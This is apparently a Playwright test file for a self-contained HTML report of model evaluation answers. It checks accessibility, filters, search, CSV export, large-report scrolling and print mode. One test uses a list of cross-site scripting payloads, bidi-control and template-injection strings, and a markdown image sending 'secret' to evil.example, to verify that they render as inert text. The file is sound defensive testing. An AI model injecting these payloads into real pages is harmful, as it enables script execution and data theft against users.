"""The HTML file of a report in a real browser: opened from disk, with no network, driven as a person would."""

from __future__ import annotations

import csv
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from playwright.async_api import Browser, Page

from tests.support.browser import NARROW, WIDE, Visit, visit
from tests.support.builders.reports import (
    Answer,
    Scores,
    make_opinions,
    make_records,
    make_report,
    make_scores,
    make_stopping,
    write_file,
)

pytestmark = pytest.mark.asyncio(loop_scope="session")
HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style>*{display:none}</style>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "[click](javascript:alert(1)) <a href='javascript:alert(1)'>x</a> ![secret](https://evil.example/?q=secret)",
    "safe \u202eesrever\u202c \u2066isolate\u2069 \u200fright",
    "\x1b[31mred\x1b[0m \x07 ${7*7} {{7*7}} %s \ufffd",
    "x" * 1_000_000,
)


@asynccontextmanager
async def open_report(browser: Browser, path: Path, **options: object) -> AsyncGenerator[Visit]:
    """Open a report; fail on anything that the browser complains about, and on any request but that for the file itself."""
    requests: list[str] = []
    async with visit(browser, f"file://{path.parent}", **options) as visitor:  # type: ignore[arg-type]
        visitor.page.on("request", lambda request: requests.append(request.url))
        await visitor.page.goto(path.as_uri())
        await visitor.page.wait_for_selector("html[data-ready]")
        yield visitor
        assert [one for one in requests if not one.startswith(("blob:", "data:"))] == [path.as_uri()]


def write_report(folder: Path, answer: Answer, scores: Scores | None = None) -> Path:
    report = make_report(scores)
    if scores is None:
        report["preferences"], report["judges"] = make_opinions()
        report["stopping"] = make_stopping()
    return write_file(folder / "report.html", report, make_records(scores or make_scores(), answer))


def speak(item: int, entry: int, repeat: int) -> str:
    """Return an answer: of all models the same on every other item."""
    return f"the answer to {item} is number {entry if item % 2 else 0} of many, in sample {repeat}"


async def list_items(page: Page) -> list[str]:
    """Return the items in sight, from top to bottom."""
    script = "rows => rows.sort((a, b) => a.ariaRowIndex - b.ariaRowIndex).map(row => row.querySelector('.open').textContent)"
    found: list[str] = await page.eval_on_selector_all(".row[data-row]", script)
    return found


async def count_items(visitor: Visit) -> str:
    return str(await visitor.page.text_content("#answers-state"))


@pytest.mark.parametrize(("size", "scheme"), [(WIDE, "light"), (NARROW, "dark")])
async def test_the_file_is_accessible_and_fits_every_width(
    browser: Browser, tmp_path: Path, size: tuple[int, int], scheme: str
) -> None:
    path = write_report(tmp_path, speak)
    async with open_report(browser, path, size=size, scheme=scheme) as visitor:
        assert await visitor.check_accessibility() == []
        assert await visitor.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        shown = await visitor.page.eval_on_selector_all("svg", "all => all.filter(one => one.checkVisibility()).length")
        assert shown == 19  # seventeen figures, of which one has three drawings
        await visitor.page.click(".open")
        await visitor.page.wait_for_selector("dialog[open] article")
        assert await visitor.check_accessibility() == []


async def test_answers_stand_side_by_side_with_differences_from_the_baseline_marked(browser: Browser, tmp_path: Path) -> None:
    async with open_report(browser, write_report(tmp_path, speak)) as visitor:
        page = visitor.page
        first, second = page.locator("[data-row='0']"), page.locator("[data-row='1']")
        assert await first.locator(".badge").all_text_contents() == ["baseline", "same", "same"]
        assert await second.locator(".badge").all_text_contents() == ["baseline", "differs", "differs"]
        assert await second.locator("ins").all_text_contents() == ["1", "2"]

        await page.select_option("select[name=base]", "2")
        assert await second.locator(".badge").all_text_contents() == ["differs", "differs", "baseline"]
        await page.uncheck("input[name=marks]")
        assert await page.locator("#answers ins").count() == 0
        await page.check("input[name=marks]")

        await second.locator(".open").click()
        assert await page.locator("dialog article:nth-child(1) del").all_text_contents() == ["2", "2"]
        assert await page.locator("dialog article:nth-child(1) ins").all_text_contents() == ["0", "0"]
        assert page.url.endswith("#row-1")
        await page.keyboard.press("ArrowRight")
        await page.wait_for_selector("dialog h3:has-text('item 2')")
        await page.keyboard.press("Escape")
        assert await page.locator("dialog[open]").count() == 0


async def test_filters_and_search_find_the_rows(browser: Browser, tmp_path: Path) -> None:
    async with open_report(browser, write_report(tmp_path, speak)) as visitor:
        page = visitor.page
        counts = {
            await button.get_attribute("data-show"): await button.locator("small").text_content()
            for button in await page.locator("[data-show]").all()
        }
        assert (counts["all"], counts["errors"], counts["different"]) == ("40", "1", "40")

        await page.click("[data-show=errors]")
        assert await list_items(page) == ["item 3"]
        assert "no answer in time" in str(await page.text_content(".cell.bad"))
        await page.click("[data-show=regressions]")
        good, *others = ([sum(map(_known, repeats)) for repeats in values] for values in make_scores().values())  # type: ignore[arg-type]
        worse = [item for item, score in enumerate(good) if any(of_model[item] < score for of_model in others)]
        assert await count_items(visitor) == f"{len(worse)} of 40 items"
        await page.click("[data-show=all]")

        await page.select_option("select[name=sort]", "spread")
        assert (await list_items(page))[0] == "item 1", "first of those with the greatest difference"
        await page.fill("input[name=search]", "TO 17 IS")
        await visitor.wait_until("document.querySelector('#answers-state').textContent", "1 of 40 items")
        assert await list_items(page) == ["item 17"]
        await page.fill("input[name=search]", "no such words")
        await visitor.wait_until("document.querySelector('#answers-state').textContent", "0 of 40 items")


def _known(value: object) -> float:
    return value if isinstance(value, float) else 0.0


async def test_hostile_answers_and_names_stay_text(browser: Browser, tmp_path: Path) -> None:
    values = [1.0] * len(HOSTILE)
    scores: Scores = {HOSTILE[2]: values, HOSTILE[1]: values}
    path = write_report(tmp_path, lambda item, entry, _: HOSTILE[item] + "!" * entry, scores)
    async with open_report(browser, path) as visitor:
        page = visitor.page
        await check_elements(page)
        for number, text in enumerate(HOSTILE):
            await page.goto(f"{path.as_uri()}#row-{number}")
            await page.wait_for_selector(f"dialog[open] h3:has-text('item {number}')")
            shown = await page.locator("dialog article .text").first.evaluate("box => box.textContent")
            assert shown == text
            await check_elements(page)
            width = await page.locator("dialog article .text").first.evaluate("box => box.scrollWidth <= box.clientWidth")
            assert width, "a text without a space does not make its column wider"
        await page.click("dialog >> text=Close")
        for button in await page.locator(".filters button").all():
            await button.click()
        await check_elements(page)


async def check_elements(page: Page) -> None:
    """Nothing that loads, runs or leads elsewhere is in the file but its own parts. The visit fails on dialogs and requests."""
    assert await page.locator("#answers :is(script, img, svg, style, iframe, a, object, link, form)").count() == 0
    assert await page.locator(":is(img, iframe, object, embed, form)").count() == 0
    assert await page.locator("script:not([type='application/gzip'])").count() == 1


async def test_a_table_is_saved_as_csv(browser: Browser, tmp_path: Path) -> None:
    async with open_report(browser, write_report(tmp_path, speak)) as visitor:
        figure = visitor.page.locator(".figure", has=visitor.page.get_by_role("heading", name="Score", exact=True)).first
        await figure.locator("summary").click()
        async with visitor.page.expect_download() as started:
            await figure.locator(".csv").click()
        download = await started.value
        await download.save_as(tmp_path / "saved.csv")

    assert download.suggested_filename == "scores-exact.csv"
    rows = list(csv.DictReader((tmp_path / "saved.csv").read_text().splitlines()))
    assert [(row["model"], row["mean"]) for row in rows][:1] == [("good", "0.9")]


async def test_ten_thousand_items_of_four_models_open_at_once_and_hold_few_rows(browser: Browser, tmp_path: Path) -> None:
    """Their counts and order prove it, not the clock: scripts/bench/evaluation.py measures the time."""
    words = "quick brown fox " * 12
    report = make_report({name: [1.0] * 20 for name in "abcd"})
    report["job"]["items"] = 10_000
    records = make_records({name: [1.0] * 10_000 for name in "abcd"}, lambda item, entry, _: f"{item} {words}{entry}")
    path = write_file(tmp_path / "report.html", report, records)
    async with open_report(browser, path) as visitor:
        page = visitor.page
        assert await count_items(visitor) == "10,000 of 10,000 items"
        for place in (0.5, 1.0, 0.25):
            await page.eval_on_selector(".rows", f"box => box.scrollTop = {place} * (box.scrollHeight - box.clientHeight)")
            near = f"row => Math.abs(row.dataset.row - {round(place * 9999)}) < 9 && row.querySelector('.text') !== null"
            await visitor.wait_until(f"[...document.querySelectorAll('.row[data-row]')].some({near})")
            assert await page.locator(".row[data-row]").count() < 40
        await page.fill("input[name=search]", "9876 quick")
        await visitor.wait_until("document.querySelector('#answers-state').textContent", "1 of 10,000 items")


async def test_paper_has_figures_and_open_tables_and_no_controls(browser: Browser, tmp_path: Path) -> None:
    async with open_report(browser, write_report(tmp_path, speak)) as visitor:
        page = visitor.page
        await page.emulate_media(media="print")
        await page.evaluate("dispatchEvent(new Event('beforeprint'))")
        shown = await page.eval_on_selector_all("table, .paper", "all => all.map(one => one.checkVisibility())")
        assert len(shown) > 12
        assert all(shown)
        for hidden in ("nav", "#answers-table", ".csv", ".filters"):
            assert not await page.locator(hidden).first.is_visible(), hidden
        await page.evaluate("dispatchEvent(new Event('afterprint'))")
        assert await page.locator("details[open]").count() == 0
        assert (await page.pdf()).startswith(b"%PDF")
